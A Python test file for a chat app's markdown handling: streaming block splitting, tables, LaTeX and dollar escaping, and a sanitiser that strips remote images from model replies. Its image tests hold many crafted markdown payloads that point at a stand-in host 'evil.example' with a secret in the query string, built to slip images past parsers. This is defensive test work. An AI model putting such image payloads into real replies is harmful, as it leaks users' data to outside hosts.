"""Markdown helpers: how a streaming reply is cut into pieces drawn once each, and tables."""

import pytest
from markdown_it import MarkdownIt

from chat_core.markdown import blocks, for_display, stream_blocks, table

LISTING = "Here is the file:\n\n```python\n" + "".join(
    f"print('line {n}')  # {'x' * 30}\n" for n in range(400)
)
PROSE = "word " * 3000  # one paragraph, no line breaks


def finished(text: str, limit: int = 500) -> list[str]:
    return stream_blocks(text, limit)[:-1]


def test_blocks_split_at_blank_lines_outside_code():
    text = "one\n\ntwo\n\n```\na\n\nb\n```\n\nthree"
    assert blocks(text) == ["one", "two", "```\na\n\nb\n```", "three"]


def test_short_blocks_are_not_cut():
    text = "one\n\ntwo"
    assert stream_blocks(text, 500) == blocks(text)


def test_long_code_listing_is_cut_into_fenced_pieces():
    pieces = [piece for piece in stream_blocks(LISTING + "```\n", 500) if piece]
    assert len(pieces) > 20
    assert all(len(piece) <= 500 + len("```python") + 4 for piece in pieces)
    for piece in pieces[1:]:
        assert piece.startswith("```python\n")
        assert piece.rstrip().endswith("```")
    code = "".join(
        line + "\n"
        for piece in pieces[1:]
        for line in piece.split("\n")
        if line and not line.startswith("```")
    )
    assert code == "".join(f"print('line {n}')  # {'x' * 30}\n" for n in range(400))


def test_long_line_is_cut_without_losing_characters():
    pieces = stream_blocks(PROSE, 500)
    assert len(pieces) == -(-len(PROSE) // 500)
    assert "".join(pieces) == PROSE


def test_finished_pieces_never_change_as_the_reply_grows():
    for text in (LISTING, PROSE, LISTING + "```\n\nDone.\n\n" + PROSE):
        final = finished(text)
        for end in range(0, len(text), 97):
            so_far = finished(text[:end])
            assert so_far == final[: len(so_far)], end


def test_a_table_keeps_every_cell_in_its_column():
    columns = {"Model": ["a|b", r"c\|d", "two\nlines"], "Replies": ["1", "2", "3"]}
    assert table(columns, right=["Replies"]).splitlines() == [
        "| Model | Replies |",
        "| --- | ---: |",
        r"| a\|b | 1 |",  # an unescaped pipe would start a new cell
        r"| c\|d | 2 |",  # an escaped one stays as it is
        "| two lines | 3 |",  # a line break would end the row
    ]


# --- images in model output ------------------------------------------------------------------

EVIL = "http://evil.example/p.png?q=secret"
# Each of these once kept an image through `for_display`: a "!" left before a link,
# alt text a regular expression cannot read, text taken for code, a path that decodes
# to another host or lands on an app route.
SLIPPERY = [
    f"!![x]({EVIL})",
    f"Wow!![chart]({EVIL})",
    f"!![x][r]\n\n[r]: {EVIL}",
    f"![a [b] c]({EVIL})",
    f"![[a]]({EVIL})",
    f"![`x`]({EVIL})",
    f"![a`]`b]({EVIL})",
    f"![x\\\n]({EVIL})",
    f"\\`![x]({EVIL})\\`",
    f"a ``` b ![x]({EVIL})",
    f"``a`b``![x]({EVIL})`",
    f"    ```\n![x]({EVIL})\n    ```",
    f"~~~\n```\n~~~\n![x]({EVIL})\n```",
    "![x](/\\/evil.example/p.png)",
    "![x](/&#47;evil.example/p.png)",
    "![x](/&sol;evil.example/p.png)",
    "![x](/media/../auth/logout)",
    "![x](/auth/logout)",
    # Maths across a line break, which the page's renderer does not read as maths.
    f"$![a [b [c]]]({EVIL})\nx$",
    f"Total $![a [b [c]]]({EVIL}) \n y$ end",
]


def image_sources(markdown: str) -> list[str]:
    """What a CommonMark renderer would fetch for `markdown` (nested up to 100 levels)."""
    reader = MarkdownIt("commonmark", {"maxNesting": 100})
    tokens = reader.enable(["table", "strikethrough"]).parse(markdown)
    return [
        child.attrs["src"]
        for token in tokens
        for child in token.children or ()
        if child.type == "image"
    ]


@pytest.mark.parametrize("text", SLIPPERY)
def test_no_remote_image_survives(text):
    assert image_sources(text)  # each is an image as written
    assert image_sources(for_display(text)) == []


def test_an_image_becomes_its_link_and_one_in_code_is_broken_up():
    text = f"see ![chart]({EVIL}) and\n\n```\n![y]({EVIL})\n```"
    assert for_display(text) == f"see [chart]({EVIL}) and\n\n```\n!\u2060[y]({EVIL})\n```"


@pytest.mark.parametrize(
    "text",
    [
        f"and `![x]({EVIL})`",
        f"Example:\n\n    ![x]({EVIL})",
        f"- step\n\n  ```\n  ![x]({EVIL})\n  ```",
        f"> ```\n> ![x]({EVIL})\n> ```",
        f"```\n![x]({EVIL})\n```",
    ],
)
def test_an_image_in_code_is_broken_up_by_an_invisible_word_joiner(text):
    # Readers differ on what is code (a directive's ":::" closes a fence for the page's
    # renderer, not for markdown-it): no "![" in code is trusted to stay code.
    assert for_display(text) == text.replace("![", "!\u2060[")


@pytest.mark.parametrize(
    "text",
    [
        f":::note\n```\n:::\n![x]({EVIL})\n```\n",  # a directive closes the fence
        f"![^a]: $$\n</x>\n~~~\n\n![x]({EVIL})\n~~~\n",  # the "!" gone: a footnote
        f"Note\n<b>\n-|\n~~~\n\n![x]({EVIL})\n~~~\n",  # HTML for one reader, a table
    ],
)
def test_no_image_is_left_in_a_fence_other_readers_close_early(text):
    shown = for_display(text)
    assert f"![x]({EVIL})" not in shown and f"!\u2060[x]({EVIL})" in shown


@pytest.mark.timeout(20)
def test_long_runs_of_backslashes_or_images_take_linear_time():
    # Quadratic scanning would take minutes on each.
    assert for_display("\\" * 100_000 + "a `x` $5").endswith("a `x` \\$5")
    assert for_display("![a](" * 40_000).count("![") == 0


# Each of these is an image for the page's renderer (micromark with GFM and maths) but
# code, or no image, for markdown-it: a GFM link that takes the backticks after a URL,
# a tab-indented line after a link definition, a fence inside a block of maths.
@pytest.mark.parametrize(
    "text",
    [
        f"https://x.example/```\n![x]({EVIL})```",
        f"[r]: https://x.example\n\t![x]({EVIL})",
        f"$$\n```\n$$\n![x]({EVIL})\n```",
    ],
)
def test_no_image_is_left_where_readers_differ_on_code(text):
    assert "![" not in for_display(text)


def test_images_this_app_serves_stay_images():
    text = "![a](/media/0a1b.png) ![b](/app/static/logo.png) ![c](data:image/png;base64,AAAA)"
    assert for_display(text) == text
    assert len(image_sources(text)) == 3


def test_latex_delimiters_become_dollars_outside_code():
    text = r"\(x^2\) and \[ y \] but `\(z\)`"
    assert for_display(text) == "$x^2$ and $$ y $$ but `\\(z\\)`"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("It costs $5 and $10.", r"It costs \$5 and \$10."),
        ("$5-$10 a night", r"\$5-\$10 a night"),
        ("between $x$ and $5", r"between $x$ and \$5"),
        ("$x^2$ and $y$, $10$", "$x^2$ and $y$, $10$"),
        ("$$\na + b\n$$", "$$\na + b\n$$"),
        (r"already \$5", r"already \$5"),
        ("`$5 and $10`", "`$5 and $10`"),
        ("~~~bash\necho $HOME $PATH\n~~~", "~~~bash\necho $HOME $PATH\n~~~"),
        ("text\n\n    echo $HOME $PATH", "text\n\n    echo $HOME $PATH"),
        ("see https://example.com/$5 now", "see https://example.com/$5 now"),
    ],
)
def test_a_dollar_that_cannot_be_maths_stays_a_dollar(text, shown):
    assert for_display(text) == shown


@pytest.mark.parametrize(
    "alt", ["x [y] z", "logo [x [y]]", "a [b [c [d]]] e", "a `[` b", "a `]` b", "[[[x]]]"]
)
@pytest.mark.parametrize(
    "nesting",
    ["", "> " * 25, "\n".join(f"{' ' * 2 * n}-" for n in range(22)) + " "],
    ids=["top", "in 25 quotes", "in 22 lists"],  # markdown-it reads 20 levels by default
)
def test_alt_text_with_brackets_becomes_a_link_too(alt, nesting):
    text = f"{nesting}a ![{alt}]({EVIL}) b"
    assert image_sources(text)
    assert for_display(text) == f"{nesting}a [{alt}]({EVIL}) b"


def test_a_footnote_whose_reference_differs_in_case_shows_no_image():
    # GFM matches a reference to its footnote ignoring case, markdown-it does not.
    text = f"See the note[^A].\n\n[^a]: ![chart [v [2]]]({EVIL})"
    assert "![" not in for_display(text)


@pytest.mark.parametrize(
    "text",
    [
        'Example:\n\n    s = re.sub(r"\\(\\d+\\)", "", t)\n',
        "Use ``re.compile(r'\\(\\d+\\)')`` to match it",
        "Use ``a `$1` $2 b`` here",
        "````md\n```py\nre.sub(r'\\(x\\)', '', s)\n```\nprice=$5; total=$10\n````",
        "Run `grep '\\(a\n\\)' f` now",
        "- step\n\n      x = \\(1\\) + $2",
        "> " * 25 + "`\\(x\\)` and ``$5 and $6``",
    ],
)
def test_code_of_every_kind_stays_as_written(text):
    assert for_display(text) == text


def test_text_between_code_spans_is_still_converted():
    text = "``a `$1` $2 b`` is \\(x\\), costs $5 ``\\(y\\)``"
    assert for_display(text) == "``a `$1` $2 b`` is $x$, costs \\$5 ``\\(y\\)``"


@pytest.mark.timeout(20)
def test_openers_without_closers_take_linear_time():
    text = "\\(" * 100_000 + "\\[" * 100_000  # quadratic scanning would take minutes
    assert for_display(text) == text
    assert for_display("$ " * 100_000).count("\\$") == 100_000
    assert for_display("https://a.example/$ " * 30_000).count("\\$") == 0
    assert for_display("![" * 50_000).count("![") == 0  # too many to parse: all broken up


def test_latex_brackets_in_two_paragraphs_are_no_formula():
    text = "In a regex, \\( opens a group.\n\nAnd \\) closes it."
    assert for_display(text) == text  # both paragraphs kept, nothing made maths
    assert for_display("Inline \\(x^2\\) maths.") == "Inline $x^2$ maths."
